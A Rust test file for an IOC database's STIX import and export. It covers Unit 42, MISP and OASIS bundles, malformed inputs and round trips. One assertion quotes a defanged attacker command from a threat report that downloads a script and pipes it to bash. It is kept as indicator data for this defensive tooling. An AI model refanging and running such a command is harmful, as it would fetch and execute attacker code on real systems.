//! STIX import and export, on the real files of `testdata/stix` (Unit 42 reports, MISP's
//! own STIX output, OASIS examples) and on hand-written broken ones.
//!
//! Indicator checks do not trust the decoder: the `object:path = 'value'` comparisons of
//! every indicator are found in the file with a regex and compared to the attributes.

#![allow(clippy::unwrap_used)]

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use iocdb_import::export::stix::write_bundle;
use iocdb_import::{Context, ImportError, Options, Report, VecSink, stix};
use iocdb_model::{AttrType, Attribute, Event, Timestamp, normalize_value, split_composite};
use regex::Regex;
use serde_json::Value;

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../testdata/stix").join(name)
}

/// Decodes `bytes` as the file `name`.
fn decode_bytes(
    name: &str,
    bytes: &[u8],
    strict: bool,
) -> (Result<(), ImportError>, Vec<Event>, Report) {
    let mut sink = VecSink::default();
    let mut ctx = Context::new(&mut sink, Options { strict });
    ctx.set_file(Some(Path::new(name)));
    let result = stix::decode(bytes, &mut ctx);
    let report = ctx.report.clone();
    (result, sink.0, report)
}

/// Decodes a fixture leniently; it must succeed.
fn decode(name: &str) -> (Vec<Event>, Report) {
    let bytes = std::fs::read(fixture(name)).unwrap();
    let (result, events, report) = decode_bytes(name, &bytes, false);
    if let Err(err) = result {
        panic!("{name}: {err}");
    }
    (events, report)
}

fn event<'e>(events: &'e [Event], uuid: &str) -> &'e Event {
    events.iter().find(|e| e.uuid.to_string() == uuid).unwrap_or_else(|| panic!("no event {uuid}"))
}

fn values(event: &Event, attr_type: &str) -> Vec<String> {
    let mut out: Vec<String> = event
        .attributes
        .iter()
        .filter(|a| a.attr_type.name() == attr_type)
        .map(|a| a.value.clone())
        .collect();
    out.sort();
    out
}

fn tags(event: &Event) -> Vec<&str> {
    event.tags.iter().map(|t| t.name.as_str()).collect()
}

fn time(text: &str) -> Option<Timestamp> {
    Some(Timestamp::parse(text).unwrap())
}

/// An equality comparison found in a pattern by regex: object type, path, value.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
struct Equality {
    object_type: String,
    path: String,
    value: String,
}

/// Every `object:path = 'value'` of the indicators of a fixture (the last version of each
/// indicator id), found with a regex, type constraints (`*.type = '...'`) left out.
fn pattern_equalities(name: &str) -> Vec<Equality> {
    let text = std::fs::read_to_string(fixture(name)).unwrap();
    let json: Value = serde_json::from_str(&text).unwrap();
    let objects = json.get("objects").and_then(Value::as_array).cloned().unwrap_or_default();
    let mut patterns = std::collections::BTreeMap::new();
    for object in &objects {
        if object["type"] == "indicator" {
            patterns.insert(
                object["id"].as_str().unwrap().to_owned(),
                object["pattern"].as_str().unwrap().to_owned(),
            );
        }
    }
    let re = Regex::new(r"([a-z0-9-]+):([A-Za-z0-9_.'\[\]*-]+)\s*=\s*'((?:[^'\\]|\\.)*)'").unwrap();
    let mut out = Vec::new();
    for pattern in patterns.values() {
        for cap in re.captures_iter(pattern) {
            let path = cap[2].to_owned();
            if path == "type" || path.ends_with(".type") {
                continue;
            }
            let value = cap[3].replace("\\\\", "\u{0}").replace("\\'", "'").replace('\u{0}', "\\");
            out.push(Equality { object_type: cap[1].to_owned(), path, value });
        }
    }
    out
}

/// The attribute an analyst would make of a comparison, if the events hold it: a
/// detection attribute whose value is the comparison's, normalised for its type.
fn holds(events: &[Event], eq: &Equality) -> bool {
    events.iter().flat_map(|e| &e.attributes).filter(|a| a.to_ids).any(|a| {
        let (first, second) = split_composite(a.attr_type, &a.value);
        [Some(first), second].into_iter().flatten().any(|half| {
            half == eq.value || normalize_value(a.attr_type, &eq.value).is_ok_and(|v| v == a.value)
        })
    })
}

/// The detection attributes of events, besides kept-whole patterns.
fn detection(events: &[Event]) -> Vec<&Attribute> {
    events
        .iter()
        .flat_map(|e| &e.attributes)
        .filter(|a| a.to_ids && a.attr_type.name() != "stix2-pattern")
        .collect()
}

/// Every comparison is an attribute, and every detection attribute is a comparison.
fn assert_every_comparison_kept(name: &str, events: &[Event], exceptions: &[&str]) {
    let equalities = pattern_equalities(name);
    assert!(!equalities.is_empty(), "{name}: no pattern found");
    let mut missing = Vec::new();
    for eq in &equalities {
        if !holds(events, eq) && !exceptions.contains(&eq.value.as_str()) {
            missing.push(eq.clone());
        }
    }
    assert!(missing.is_empty(), "{name}: comparisons without attribute: {missing:?}");
    let halves: usize =
        detection(events).iter().map(|a| if a.attr_type.is_composite() { 2 } else { 1 }).sum();
    assert_eq!(
        halves + exceptions.len(),
        equalities.len(),
        "{name}: detection attributes vs comparisons"
    );
}

// ---------------------------------------------------------------- Unit 42 (STIX 2.0)

#[test]
fn unit42_codecov_breach() {
    let name = "valid/unit42/CodeCov_Breach.json";
    let (events, report) = decode(name);
    assert_eq!(events.len(), 1);
    let e = event(&events, "bce9ad6c-c8c2-4c53-a6f1-96cf0c8b0f67");
    assert_eq!(e.info, "Campaign 1 - CodeCov Breach");
    assert_eq!(e.date, time("2021-04-19"));
    assert_eq!(e.publish_timestamp, time("2021-04-19T21:56:12.713Z"));
    assert!(e.published);
    assert_eq!(values(e, "url"), ["http://104.248.94.23/upload/v2"]);
    assert_eq!(values(e, "ip-dst"), ["104.248.94.23"]);
    assert_eq!(
        values(e, "sha256"),
        ["9b0b78716c0c1c5d01231017ef2733115b0a31c1d9b751525d04da89ef17b7d1"]
    );
    let url = e.attributes.iter().find(|a| a.attr_type.name() == "url").unwrap();
    assert_eq!(url.uuid.to_string(), "17e7e6bc-88ea-4db1-af4d-e098194e7df7");
    assert_eq!(url.first_seen, time("2021-04-19T21:11:24.225Z"));
    assert!(url.to_ids);
    assert_eq!(url.tags[0].name, "malicious-activity");
    let tags = tags(e);
    assert!(tags.contains(&"stix:campaign=\"Campaign 1 - CodeCov Breach\""), "{tags:?}");
    assert!(tags.contains(&"stix:attack-pattern=\"T1119: Automated Collection\""), "{tags:?}");
    assert!(e.reports[0].content.starts_with("On April 16th, Codecov"));
    assert_eq!(report.counters["stix: skipped course-of-action"], 9);
    assert_eq!(report.warnings.len(), 1, "one warning per skipped type: {:?}", report.warnings);
    assert_every_comparison_kept(name, &events, &[]);
    insta::assert_json_snapshot!("codecov_breach", events);
}

#[test]
fn unit42_indicator_outside_the_report_goes_to_the_bundle_event() {
    let name = "valid/unit42/2024-03-07-Latrodectus-with-Lumma-Stealer.json";
    let (events, report) = decode(name);
    assert_eq!(events.len(), 2);
    assert_eq!(events[0].attributes.len(), 23);
    let bundle = &events[1];
    let json: Value =
        serde_json::from_str(&std::fs::read_to_string(fixture(name)).unwrap()).unwrap();
    let bundle_id = json["id"].as_str().unwrap();
    assert_eq!(format!("bundle--{}", bundle.uuid), bundle_id);
    assert_eq!(bundle.info, "STIX bundle 2024-03-07-Latrodectus-with-Lumma-Stealer.json");
    assert_eq!(bundle.attributes.len(), 1);
    assert_eq!(bundle.attributes[0].uuid.to_string(), "e0a8c000-09ff-4c08-9a9b-1be24cd75556");
    assert!(report.warnings.is_empty(), "{:?}", report.warnings);
    assert_every_comparison_kept(name, &events, &[]);
}

#[test]
fn unit42_duplicate_ids_dangling_refs_and_defanged_command_line() {
    let name = "valid/unit42/2024-04-12-MidnightEclipse.json";
    let (events, report) = decode(name);
    assert_eq!(events.len(), 1);
    assert_eq!(report.counters["stix: objects replaced by a newer version"], 1);
    assert_eq!(report.counters["stix: unresolved references"], 1);
    // A command line is text: kept as written, not refanged.
    let text = values(&events[0], "text");
    assert!(text.contains(&"wget -qO- hxxp://172.233.228[.]93/patch|bash".to_owned()), "{text:?}");
    assert_every_comparison_kept(name, &events, &[]);
}

#[test]
fn unit42_nested_reports_and_list_valued_identity_class() {
    let name = "valid/unit42/cve-2023-23397.json";
    let (events, report) = decode(name);
    assert_eq!(events.len(), 2);
    let outer = event(&events, "aba19b6f-543f-4a83-b7e1-056999d04384");
    assert!(outer.attributes.is_empty());
    assert!(tags(outer).contains(&"stix:intrusion-set=\"CVE-2023-23397\""));
    let inner = event(&events, "13ff5148-84db-4cbf-826f-3f0c2a721b69");
    assert_eq!(inner.info, "ATOM Campaign Report");
    assert_eq!(values(inner, "ip-dst").len(), 10);
    assert!(values(inner, "ip-dst").contains(&"113.160.234.229".to_owned()));
    assert!(tags(inner).contains(&"stix:campaign=\"CVE-2023-23397\""));
    assert!(
        tags(inner).contains(&"stix:attack-pattern=\"T1210: Exploitation of Remote Services\"")
    );
    assert_eq!(report.counters.get("skipped records"), None, "identity_class as a list is fine");
    assert_every_comparison_kept(name, &events, &[]);
}

// ---------------------------------------------------------------- MISP's STIX output

/// Type, value and object relation of every attribute, for comparing two renderings.
fn shape(events: &[Event]) -> BTreeSet<(String, String, String, bool, Option<String>)> {
    events
        .iter()
        .flat_map(|e| &e.attributes)
        .map(|a| {
            let relation = a.object.as_ref().map(|o| o.relation.clone());
            (a.uuid.to_string(), a.attr_type.name().to_owned(), a.value.clone(), a.to_ids, relation)
        })
        .collect()
}

#[test]
fn misp_attributes_collection_stix20() {
    let (events, _) = decode("valid/misp-stix/test_attributes_collection_stix20.json");
    assert_eq!(events.len(), 1);
    let e = &events[0];
    // Indicator and observed-data of one MISP attribute share its uuid: one attribute.
    assert_eq!(e.attributes.len(), 4);
    assert_eq!(values(e, "AS"), ["174"]);
    assert_eq!(values(e, "domain|ip"), ["circl.lu|149.13.33.14"]);
    assert_eq!(values(e, "filename"), ["test_file_name"]);
    let domain = e.attributes.iter().find(|a| a.attr_type.name() == "domain").unwrap();
    assert_eq!(domain.uuid.to_string(), "4bb235a7-7d25-4aef-802f-2c6b45c5eceb");
    assert!(domain.to_ids, "the indicator rendering says to_ids");
    assert_eq!(domain.comment, "Domain test attribute");
    assert_eq!(domain.category.name(), "Network activity");
    assert!(domain.tags.is_empty(), "misp:type and misp:category labels are hints, not tags");
    let as_attr = e.attributes.iter().find(|a| a.attr_type.name() == "AS").unwrap();
    assert!(!as_attr.to_ids, "observed only");
    assert_eq!(as_attr.first_seen, time("2020-10-25T16:22:00Z"));
}

#[test]
fn misp_attributes_collection_stix21_matches_stix20() {
    let (v20, _) = decode("valid/misp-stix/test_attributes_collection_stix20.json");
    let (v21, _) = decode("valid/misp-stix/test_attributes_collection_stix21.json");
    assert_eq!(shape(&v21), shape(&v20));
}

#[test]
fn misp_objects_collection_stix20() {
    let (events, report) = decode("valid/misp-stix/test_objects_collection_stix20.json");
    let e = &events[0];
    let names: Vec<&str> = e.objects.iter().map(|o| o.name.as_str()).collect();
    assert_eq!(names, ["email", "file", "domain-ip"]);
    let file = e.objects.iter().find(|o| o.name == "file").unwrap();
    assert_eq!(file.uuid.to_string(), "5e384ae7-672c-4250-9cda-3b4da964451a");
    assert!(file.comment.contains("file:hashes.MD5 = '8764605c6f388c89096b534d33565802'"));
    let in_file: Vec<&str> = e
        .attributes
        .iter()
        .filter(|a| a.object.as_ref().is_some_and(|o| o.uuid == file.uuid))
        .map(|a| a.attr_type.name())
        .collect();
    assert_eq!(in_file, ["md5", "sha1", "sha256", "size-in-bytes", "filename"]);
    assert_eq!(
        values(e, "email-src"),
        ["donald.duck@disney.com"],
        "indicator and observation merge"
    );
    assert_eq!(values(e, "email-dst"), ["jdoe@random.org"]);
    assert_eq!(values(e, "email-subject"), ["Email test subject"]);
    assert_eq!(values(e, "ip-dst"), ["149.13.33.14"]);
    // The credential object has no MISP-typed observable.
    assert_eq!(report.counters["stix: observations without mapped observables"], 1);
}

#[test]
fn misp_objects_collection_stix21_matches_stix20() {
    let (v20, _) = decode("valid/misp-stix/test_objects_collection_stix20.json");
    let (v21, _) = decode("valid/misp-stix/test_objects_collection_stix21.json");
    // STIX 2.1 has a message_id property; MISP's 2.0 export puts it in a custom one.
    let only_21: Vec<_> = shape(&v21).difference(&shape(&v20)).cloned().collect();
    assert_eq!(only_21.len(), 1);
    assert_eq!(
        (only_21[0].1.as_str(), only_21[0].2.as_str()),
        ("email-message-id", "<1234567890@foo.bar>")
    );
    assert!(shape(&v20).is_subset(&shape(&v21)));
    insta::assert_json_snapshot!("misp_objects_collection_stix21", v21);
}

#[test]
fn misp_groupings_become_events() {
    let (events, _) = decode("valid/misp-stix/test_event2_stix21.json");
    assert_eq!(events.len(), 2);
    let e = event(&events, "50bf87fc-d134-499f-9e26-806cbe89ed37");
    assert_eq!(e.info, "MISP-STIX-Converter test event with domain|ip attribute");
    assert!(!e.published, "a grouping has no published date");
    assert_eq!(e.orgc.as_ref().unwrap().name, "MISP-Project");
    assert_eq!(tags(e), ["Threat-Report", "misp:tool=\"MISP-STIX-Converter\""]);
    assert_eq!(values(e, "domain|ip"), ["circl.lu|149.13.33.14"]);
}

#[test]
fn misp_events_collection_stix20() {
    let name = "valid/misp-stix/test_events_collection_stix20.json";
    let (events, _) = decode(name);
    assert_eq!(events.len(), 4);
    assert!(events.iter().all(|e| e.published && e.orgc.is_some()));
    assert_every_comparison_kept(name, &events, &[]);
}

// ---------------------------------------------------------------- OASIS examples (2.1)

#[test]
fn oasis_indicator_for_malicious_url() {
    let name = "valid/oasis/indicator-for-malicious-url.json";
    let (events, _) = decode(name);
    assert_eq!(events.len(), 1);
    assert_eq!(values(&events[0], "url"), ["http://x4z9arb.cn/4712/"]);
    // The malware the indicator `indicates` tags the event.
    assert_eq!(tags(&events[0]), ["stix:malware=\"x4z9arb backdoor\""]);
    assert_every_comparison_kept(name, &events, &[]);
}

#[test]
fn oasis_malware_indicator_for_file_hash() {
    let name = "valid/oasis/malware-indicator-for-file-hash.json";
    let (events, _) = decode(name);
    assert_eq!(values(&events[0], "sha256").len(), 1);
    assert_eq!(
        events[0].attributes[0].tags.iter().map(|t| t.name.as_str()).collect::<Vec<_>>(),
        ["malicious-activity"]
    );
    assert_every_comparison_kept(name, &events, &[]);
}

#[test]
fn oasis_sighting_of_observed_data() {
    let (events, report) = decode("valid/oasis/sighting-of-observed-data.json");
    assert_eq!(events.len(), 1);
    let e = &events[0];
    assert_eq!(values(e, "filename"), ["resume.pdf"]);
    assert_eq!(values(e, "md5"), ["1717b7fff97d37a1e1a0029d83492de1"]);
    assert_eq!(
        values(e, "regkey"),
        ["HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\WSALG2"]
    );
    let file = e.attributes.iter().find(|a| a.attr_type.name() == "filename").unwrap();
    assert!(!file.to_ids);
    assert_eq!(file.first_seen, time("2017-02-27T21:37:11.213Z"));
    // The sighting links the malware to the observations: it tags the event.
    assert_eq!(tags(e), ["stix:malware=\"Online Job Site Trojan\""]);
    assert!(report.warnings.is_empty(), "{:?}", report.warnings);
    insta::assert_json_snapshot!("sighting_of_observed_data", events);
}

#[test]
fn oasis_matches_comparison_is_kept_whole_and_does_not_correlate() {
    let (events, report) = decode("valid/oasis/using-granular-markings.json");
    let attrs = &events[0].attributes;
    assert_eq!(attrs.len(), 1);
    assert_eq!(attrs[0].attr_type.name(), "stix2-pattern");
    assert!(attrs[0].value.contains("MATCHES"));
    assert!(attrs[0].disable_correlation);
    assert_eq!(attrs[0].correlation_keys().count(), 0);
    assert_eq!(report.counters["stix: non-equality comparisons"], 1);
    let warning = &report.warnings[0];
    assert_eq!(warning.position.pointer.as_deref(), Some("/objects/1/pattern"));
    assert!(warning.message.contains("MATCHES"), "{}", warning.message);
}

#[test]
fn oasis_tlp_marking_becomes_a_tag() {
    let (events, _) = decode("valid/oasis/using-marking-definitions.json");
    let attr = &events[0].attributes[0];
    assert_eq!(attr.value, "10.0.0.0");
    let tags: Vec<&str> = attr.tags.iter().map(|t| t.name.as_str()).collect();
    assert_eq!(tags, ["tlp:amber", "malicious-activity"]);
    assert_eq!(attr.comment, "Detected malicious activity from this address");
}

#[test]
fn oasis_bundle_without_indicators_gives_no_event() {
    let (events, report) =
        decode("valid/oasis/threat-actor-leveraging-attack-patterns-and-malware.json");
    assert!(events.is_empty());
    assert!(report.warnings.is_empty(), "{:?}", report.warnings);
}

#[test]
fn oasis_bare_array_of_observables() {
    let name = "valid/oasis-python-stix2/sco-examples-bundle-2.1.json";
    let (events, report) = decode(name);
    assert_eq!(events.len(), 1);
    let e = &events[0];
    assert_eq!(e.info, "STIX bundle sco-examples-bundle-2.1.json");
    assert!(e.attributes.iter().all(|a| !a.to_ids), "observations are not for detection");
    assert_eq!(values(e, "mac-address"), ["d2:fb:49:24:37:18"]);
    assert_eq!(values(e, "mutex"), ["__CLEANSWEEP__"]);
    assert_eq!(values(e, "AS"), ["15139"]);
    assert!(values(e, "email-src").contains(&"jdoe@example.com".to_owned()));
    assert!(values(e, "ip-dst").contains(&"2001:db8:85a3::8a2e:370:7334".to_owned()));
    assert_eq!(values(e, "http-method"), ["GET"]);
    assert_eq!(report.counters["stix: objects replaced by a newer version"], 12);
    // No bundle id: the event's uuid comes from the content, the same on every import.
    let (again, _) = decode(name);
    assert_eq!(again[0].uuid, e.uuid);
    assert_eq!(again, events);
}

// ---------------------------------------------------------------- invalid files

fn decode_invalid(name: &str, strict: bool) -> (Result<(), ImportError>, Vec<Event>, Report) {
    let bytes = std::fs::read(fixture(name)).unwrap();
    decode_bytes(name, &bytes, strict)
}

#[test]
fn invalid_truncated_bundle_names_file_line_and_element() {
    let name = "invalid/truncated-bundle.json";
    let (result, events, _) = decode_invalid(name, false);
    let err = result.unwrap_err();
    assert!(events.is_empty(), "nothing is emitted from a broken file");
    let message = err.to_string();
    assert!(message.starts_with(&format!("{name}: line ")), "{message}");
    assert!(message.contains("at /objects/"), "{message}");
    assert!(message.contains("EOF while parsing"), "{message}");
}

#[test]
fn invalid_top_level_string() {
    let name = "invalid/top-level-string.json";
    let err = decode_invalid(name, false).0.unwrap_err();
    let message = err.to_string();
    assert!(message.starts_with(&format!("{name}: line 1")), "{message}");
    assert!(message.contains("expected a STIX bundle, a STIX object or an array"), "{message}");
}

#[test]
fn invalid_untyped_object() {
    let name = "invalid/untyped-object.json";
    let err = decode_invalid(name, false).0.unwrap_err();
    assert_eq!(err.file(), Some(Path::new(name)));
    assert!(err.to_string().contains("without \"type\""), "{err}");
}

#[test]
fn invalid_trailing_garbage() {
    let name = "invalid/trailing-garbage.json";
    let err = decode_invalid(name, false).0.unwrap_err();
    let message = err.to_string();
    assert!(message.starts_with(&format!("{name}: line 1")), "{message}");
    assert!(message.contains("trailing characters"), "{message}");
}

#[test]
fn invalid_bad_records_are_skipped_with_their_pointers() {
    let name = "invalid/bad-records.json";
    let (result, events, report) = decode_invalid(name, false);
    result.unwrap();
    assert_eq!(report.counters["skipped records"], 6);
    let pointers: Vec<&str> =
        report.warnings.iter().filter_map(|w| w.position.pointer.as_deref()).collect();
    assert_eq!(
        pointers,
        [
            "/objects/0",
            "/objects/1/pattern",
            "/objects/2/object_refs",
            "/objects/3",
            "/objects/4",
            "/objects/5/pattern",
            "/objects/6/valid_from",
        ]
    );
    assert!(report.warnings[0].message.contains("required property \"pattern\""));
    assert!(report.warnings[5].message.contains("999.1.1.1"), "{}", report.warnings[5].message);
    // The good indicator survives, without its unreadable valid_from.
    assert_eq!(events.len(), 1);
    assert_eq!(values(&events[0], "domain"), ["good.example.com"]);
    assert_eq!(events[0].attributes[0].first_seen, None);
}

#[test]
fn invalid_bad_records_stop_a_strict_import() {
    let name = "invalid/bad-records.json";
    let (result, events, _) = decode_invalid(name, true);
    let err = result.unwrap_err();
    assert!(events.is_empty());
    assert_eq!(
        err.to_string(),
        format!("{name}: at /objects/0: expected required property \"pattern\", found none")
    );
}

/// Every prefix of a real bundle, and every one-byte corruption of a small one, decodes
/// or fails cleanly: never a panic.
#[test]
fn truncated_and_corrupted_input_never_panics() {
    let bytes = std::fs::read(fixture("valid/misp-stix/test_event2_stix21.json")).unwrap();
    for end in 0..bytes.len() {
        let _ = decode_bytes("prefix.json", bytes.get(..end).unwrap(), false);
    }
    let small = std::fs::read(fixture("valid/oasis/using-granular-markings.json")).unwrap();
    for at in 0..small.len() {
        for byte in [b'"', b'[', b'}', b'\\', b'\'', 0xff] {
            let mut copy = small.clone();
            copy[at] = byte;
            let _ = decode_bytes("corrupt.json", &copy, false);
        }
    }
}

// ---------------------------------------------------------------- export and round trip

fn export(events: &[Event]) -> (Vec<u8>, iocdb_import::export::stix::ExportStats) {
    let mut out = Vec::new();
    let stats = write_bundle(events, &mut out).unwrap();
    (out, stats)
}

/// What STIX carries of an event, for comparing an import with the import of its export.
fn carried(events: &[Event]) -> Vec<Value> {
    let mut out: Vec<Value> = events
        .iter()
        .map(|e| {
            let mut attrs: Vec<Value> = e
                .attributes
                .iter()
                .filter(|a| AttrType::from_name("text") != Some(a.attr_type))
                .map(|a| {
                    serde_json::json!({
                        "uuid": a.uuid, "type": a.attr_type, "category": a.category,
                        "value": a.value, "to_ids": a.to_ids, "comment": a.comment,
                        "first_seen": a.first_seen, "last_seen": a.last_seen,
                        "timestamp": a.timestamp, "tags": a.tags, "object": a.object,
                        "disable_correlation": a.disable_correlation,
                    })
                })
                .collect();
            attrs.sort_by_key(|a| a["uuid"].to_string());
            let objects: BTreeSet<(String, String, String)> = e
                .objects
                .iter()
                .map(|o| (o.uuid.to_string(), o.name.clone(), o.meta_category.clone()))
                .collect();
            serde_json::json!({
                "uuid": e.uuid, "info": e.info, "date": e.date, "tags": e.tags,
                "orgc": e.orgc, "reports": e.reports, "attributes": attrs, "objects": objects,
            })
        })
        .collect();
    out.sort_by_key(|e| e["uuid"].to_string());
    out
}

/// Compares carried events attribute by attribute, for readable failures.
fn assert_same(got: &[Value], want: &[Value], name: &str) {
    assert_eq!(got.len(), want.len(), "{name}: events");
    for (g, w) in got.iter().zip(want) {
        for key in ["uuid", "info", "date", "tags", "orgc", "reports", "objects"] {
            if key == "date" && w[key].is_null() {
                // STIX requires a date: an event without one comes back dated 1970-01-01.
                assert_eq!(g[key], 0, "{name}");
                continue;
            }
            assert_eq!(g[key], w[key], "{name}: event {key}");
        }
        let (ga, wa) = (g["attributes"].as_array().unwrap(), w["attributes"].as_array().unwrap());
        for wanted in wa {
            let found = ga.iter().find(|a| a["uuid"] == wanted["uuid"]);
            assert_eq!(found, Some(wanted), "{name}: attribute");
        }
        assert_eq!(ga.len(), wa.len(), "{name}: attributes");
    }
}

/// Import, export, import again: the same events, for everything STIX carries.
fn assert_round_trip(name: &str) {
    let (first, _) = decode(name);
    let (bundle, stats) = export(&first);
    let (result, second, report) = decode_bytes("export.json", &bundle, true);
    if let Err(err) = result {
        panic!("{name}: re-import failed: {err}\n{}", String::from_utf8_lossy(&bundle));
    }
    assert_same(&carried(&second), &carried(&first), name);
    // Only free text outside MISP objects has no STIX path (inside one, it goes back
    // where it was read: `process:command_line`).
    let loose_text = first
        .iter()
        .flat_map(|e| &e.attributes)
        .filter(|a| a.attr_type.name() == "text" && a.object.is_none())
        .count() as u64;
    assert_eq!(stats.skipped.get("text").copied().unwrap_or(0), loose_text, "{name}: {stats:?}");
    assert!(stats.skipped.keys().all(|k| k == "text"), "{name}: {stats:?}");
    assert!(
        report.warnings.iter().all(|w| w.message.contains("not plain equality")),
        "{:?}",
        report.warnings
    );
}

#[test]
fn round_trip_unit42() {
    for name in [
        "valid/unit42/CodeCov_Breach.json",
        "valid/unit42/2024-03-07-Latrodectus-with-Lumma-Stealer.json",
        "valid/unit42/2024-04-12-MidnightEclipse.json",
        "valid/unit42/cve-2023-23397.json",
    ] {
        assert_round_trip(name);
    }
}

#[test]
fn round_trip_misp_stix() {
    for name in [
        "valid/misp-stix/test_attributes_collection_stix20.json",
        "valid/misp-stix/test_attributes_collection_stix21.json",
        "valid/misp-stix/test_objects_collection_stix20.json",
        "valid/misp-stix/test_objects_collection_stix21.json",
        "valid/misp-stix/test_event2_stix21.json",
        "valid/misp-stix/test_events_collection_stix20.json",
    ] {
        assert_round_trip(name);
    }
}

#[test]
fn round_trip_oasis() {
    for name in [
        "valid/oasis/indicator-for-malicious-url.json",
        "valid/oasis/malware-indicator-for-file-hash.json",
        "valid/oasis/sighting-of-observed-data.json",
        "valid/oasis/using-granular-markings.json",
        "valid/oasis/using-marking-definitions.json",
        "valid/oasis-python-stix2/sco-examples-bundle-2.1.json",
    ] {
        assert_round_trip(name);
    }
}

/// An attribute of each type STIX can carry, as an import would make it.
fn attribute(event: &Event, n: u8, attr_type: &str, value: &str, to_ids: bool) -> Attribute {
    let ty = AttrType::from_name(attr_type).unwrap();
    let mut attr = Attribute::new(ty, &normalize_value(ty, value).unwrap());
    attr.uuid = iocdb_import::derived_uuid(&[event.uuid.as_bytes(), &[n]]);
    attr.to_ids = to_ids;
    attr.comment = format!("comment with 'quotes' and \\backslash {n}");
    attr.first_seen = time("2024-03-01T10:00:00.123456Z");
    attr.last_seen = time("2024-03-02T10:00:00Z");
    attr.timestamp = time("2024-03-03T00:00:00Z");
    attr.tags = vec![iocdb_model::Tag::new(format!("tag-{n}"))];
    attr
}

#[test]
fn round_trip_every_type_stix_carries() {
    let mut e =
        Event::new(iocdb_import::derived_uuid(&[b"round trip"]), "Round trip: it's all here");
    e.date = time("2024-03-01");
    e.timestamp = time("2024-03-04T00:00:00Z");
    e.publish_timestamp = time("2024-03-04T12:00:00Z");
    e.published = true;
    e.orgc = Some(iocdb_model::Org { name: "CIRCL".into(), uuid: Some(uuid::Uuid::nil()) });
    e.tags = vec![iocdb_model::Tag::new("tlp:green"), iocdb_model::Tag::new("misp-galaxy:x=\"y\"")];
    e.reports = vec![iocdb_model::EventReport { name: e.info.clone(), content: "Details.".into() }];
    let cases = [
        ("ip-dst", "198.51.100.7", true),
        ("ip-src", "2001:db8::1", true),
        ("ip-dst", "10.0.0.0/8", false),
        ("domain", "evil.example.com", true),
        ("hostname", "www.evil.example.com", false),
        ("url", "http://evil.example.com/a'b\\c", true),
        ("email", "x@example.com", false),
        ("email-src", "src@example.com", true),
        ("email-dst", "dst@example.com", true),
        ("email-subject", "It's urgent", false),
        ("md5", "d41d8cd98f00b204e9800998ecf8427e", true),
        ("sha1", "da39a3ee5e6b4b0d3255bfef95601890afd80709", true),
        ("sha256", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", true),
        ("ssdeep", "3:a+JraNvsgzsVqSwHq9:tJuOgzsko", true),
        ("filename", "invoice.pdf.exe", true),
        ("filename|md5", "a.exe|d41d8cd98f00b204e9800998ecf8427e", true),
        ("ip-dst|port", "198.51.100.8|8080", true),
        ("domain|ip", "c2.example.com|198.51.100.9", true),
        ("regkey", "HKLM\\Software\\Run", true),
        ("mutex", "Global\\evil", true),
        ("AS", "AS64496", false),
        ("mac-address", "00:11:22:33:44:55", false),
        ("user-agent", "Mozilla/5.0 'evil'", true),
        ("x509-fingerprint-sha1", "da39a3ee5e6b4b0d3255bfef95601890afd80709", true),
        ("port", "4444", false),
        ("vulnerability", "CVE-2021-44228", false),
        ("yara", "rule x { condition: true }", true),
    ];
    for (n, (ty, value, to_ids)) in cases.iter().enumerate() {
        let mut attr = attribute(&e, n as u8, ty, value, *to_ids);
        if *ty == "vulnerability" {
            // A vulnerability object has no first or last seen.
            (attr.first_seen, attr.last_seen) = (None, None);
        }
        e.attributes.push(attr);
    }
    let events = vec![e];
    let (bundle, stats) = export(&events);
    assert!(stats.skipped.is_empty(), "{stats:?}");
    let (result, back, _) = decode_bytes("export.json", &bundle, true);
    result.unwrap();
    assert_same(&carried(&back), &carried(&events), "hand-made event");
    assert_eq!(back[0].publish_timestamp, events[0].publish_timestamp);
    let text = String::from_utf8(bundle).unwrap();
    assert!(text.contains(r#""pattern":"[ipv4-addr:value = '198.51.100.7']""#), "{text}");
    assert!(text.contains(r"[url:value = 'http://evil.example.com/a\\'b\\\\c']"), "{text}");
    assert!(text.contains(r#""id":"report--"#));
}

#[test]
fn export_bundle_snapshot() {
    let (events, _) = decode("valid/unit42/CodeCov_Breach.json");
    let (bundle, stats) = export(&events);
    assert_eq!(stats.objects, 4, "a report and three indicators");
    let json: Value = serde_json::from_slice(&bundle).unwrap();
    insta::assert_json_snapshot!("codecov_breach_export", json);
}

#[test]
fn export_writes_nothing_stix_cannot_carry() {
    let mut e = Event::new(iocdb_import::derived_uuid(&[b"text"]), "text only");
    e.date = time("2024-01-01");
    let ty = AttrType::from_name("text").unwrap();
    e.attributes.push(Attribute::new(ty, "free text"));
    let (bundle, stats) = export(&[e]);
    assert_eq!(stats.skipped["text"], 1);
    assert_eq!(stats.objects, 1, "the report only");
    let (result, back, _) = decode_bytes("export.json", &bundle, true);
    result.unwrap();
    assert_eq!(back.len(), 1);
    assert!(back[0].attributes.is_empty());
}
